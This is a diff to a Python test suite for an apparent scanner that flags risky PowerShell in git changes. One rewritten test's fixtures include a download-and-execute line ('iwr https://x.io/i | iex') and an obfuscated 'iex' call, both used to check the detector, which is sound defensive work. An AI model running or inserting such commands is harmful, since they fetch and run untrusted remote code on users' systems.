@@ -323,6 +323,8 @@ def test_a_file_run_in_unchanged_code_is_reported_on_its_download(repo: GitRepo)
         "Start-Process notepad\n",
         "param($a) Write-Host $a\n",
         "function f($a) { Write-Host $a }\n",
+        "$sb = { param($x) Write-Output $x }\n& $sb 1\n",
+        "$dotnet = Join-Path $env:LOCALAPPDATA 'Microsoft\\dotnet\\dotnet.exe'\n& $dotnet build -c Release\n",
         "Write-Host a\u00a0iex $x\n",
         "& (gcm -CommandType Application git) status\n",
         "$tool = Get-Command git; & $tool.Source status\n",
@@ -345,8 +347,11 @@ def test_only_added_lines_are_reported(repo: GitRepo) -> None:
 
 
 def test_each_hunk_is_read_when_the_new_text_is_unknown(repo: GitRepo) -> None:
-    source = "$a = 1\niwr https://x.io/i | iex\n" + "$b = 2\n" * 10 + "i`e`x $c\n"
-    assert _found(repo, source, texts=False) == [(2, _PIPE), (13, _EVAL)]
+    middle = "".join(f"$b{i} = {i}\n" for i in range(12))
+    base = {"s.ps1": f"$a = 1\n{middle}$c = 3\n"}
+    head = {"s.ps1": f"$a = 1\niwr https://x.io/i | iex\n{middle}$c = 3\ni`e`x $c\n"}
+    change = change_of(repo, head, base, texts=False)
+    assert where(scan(RULE, change)) == [("s.ps1", 2, _PIPE), ("s.ps1", 16, _EVAL)]
 
 
 def test_a_pwsh_script_without_an_extension(repo: GitRepo) -> None:
